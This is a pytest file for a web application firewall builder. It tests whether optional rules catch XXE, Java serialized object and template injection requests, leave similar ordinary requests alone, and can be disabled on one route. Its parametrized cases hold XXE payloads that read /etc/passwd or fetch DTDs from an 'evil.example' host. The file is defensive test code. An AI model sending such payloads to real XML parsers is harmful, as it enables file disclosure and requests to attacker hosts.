"""Extra detection: what it finds, what it costs, and where it is switched off."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from support.client import request

from corpus.judge import booted, judge
from corpus.requests import Request, attacks, ordinary
from waf_builder.spec.model import ExtraDetection

if TYPE_CHECKING:
    from collections.abc import Iterator

    from support.waf import Waf

    from waf_builder.engine.model import Engine

pytestmark = [pytest.mark.nginx, pytest.mark.together]

FOUND = {
    "external_entities": ("xxe-file", "xxe-parameter", "xxe-external-dtd", "xxe-svg"),
    "java_objects": ("java-serialized",),
    "server_templates": ("ssti-jinja-mro", "ssti-probe", "ssti-twig"),
}
IDS = {"external_entities": 90500, "java_objects": 90501, "server_templates": 90502}
PASSES = ("api-plist", "api-svg", "admin-i18n-form", "api-translations", "cookies-jwt")
"""Ordinary requests that look a little like them."""
OFF = ", ".join(f"{name}: false" for name in ExtraDetection.model_fields)
POLICY = f"""\
routes:
  - path: /
  - path: /without/
    waf: {{extra_detection: {{{OFF}}}}}
"""


@pytest.fixture(scope="module")
def waf(engine: Engine) -> Iterator[Waf]:
    """A WAF with a route that looks for nothing besides."""
    with booted(engine, POLICY) as running:
        yield running


def named(names: tuple[str, ...]) -> list[Request]:
    return [one for one in (*attacks(), *ordinary()) if one.name in names]


def below(one: Request, prefix: str) -> Request:
    """Return the request to the same path below a route."""
    method, _, rest = one.data.partition(b" ")
    return Request(one.name, one.group, one.why, method + b" " + prefix.encode() + rest)


def test_every_name_is_tried():
    assert set(FOUND) == set(IDS) == set(ExtraDetection.model_fields)


@pytest.mark.parametrize("name", FOUND)
def test_finds_what_it_is_for(waf: Waf, name: str):
    for verdict in judge(waf, named(FOUND[name])):
        assert verdict.blocked, verdict
        assert IDS[name] in verdict.rules


def test_lets_ordinary_requests_pass(waf: Waf):
    assert [str(one) for one in judge(waf, named(PASSES)) if one.blocked] == []


def test_a_route_can_be_without_it(waf: Waf):
    found = named(tuple(one for names in FOUND.values() for one in names))
    verdicts = judge(waf, [below(one, "/without") for one in found])
    assert not {id_ for one in verdicts for id_ in one.rules} & set(IDS.values())
    assert any(not one.blocked for one in verdicts)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', True),
        ('<!doctype r public "-//x" "http://evil.example/www.apple.com/x.dtd"><r/>', True),
        ('<!DOCTYPE r SYSTEM "http://www.w3.org.evil.example/x.dtd"><r/>', True),
        ('<!DOCTYPE r PUBLIC "-//W3C//DTD" "http://www.w3.org/TR/x.dtd"><r/>', False),
        ("<!DOCTYPE html><r>SYSTEM 'http://evil.example/'</r>", False),
    ],
)
def test_a_document_type_is_judged_by_where_it_comes_from(
    waf: Waf, text: str, refused: bool, encoding: str
):
    mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}.get(encoding, b"")
    headers = {"Content-Type": "application/xml"}
    data = request("/xml", method="POST", headers=headers, body=mark + text.encode(encoding))
    (verdict,) = judge(waf, [Request("doctype", "xml", "a type of document", data)])
    if refused:
        assert verdict.blocked
    else:
        assert IDS["external_entities"] not in verdict.rules
